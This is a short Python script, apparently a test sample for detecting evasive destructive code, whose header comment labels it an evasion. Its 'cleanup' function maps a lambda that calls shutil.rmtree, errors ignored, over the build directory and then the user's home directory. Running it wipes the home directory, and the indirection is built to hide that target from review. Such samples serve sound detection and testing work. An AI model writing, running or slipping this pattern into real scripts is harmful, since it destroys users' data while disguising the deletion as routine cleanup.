# Evasion: deletes the user's home directory recursively.
# Hidden in a lambda handed to map(): the "cleanup" maps a lambda that calls
# shutil.rmtree over a list of directories, the project's build directory
# first and the home directory second, so the deleting call only ever
# names the lambda's parameter.
import os
import shutil

TARGETS = ["build", os.path.join(os.path.expanduser("~"), "")]


def cleanup():
    done = list(map(lambda d: shutil.rmtree(d, ignore_errors=True) or d, TARGETS))
    print("cleaned", len(done), "directories")


if __name__ == "__main__":
    cleanup()
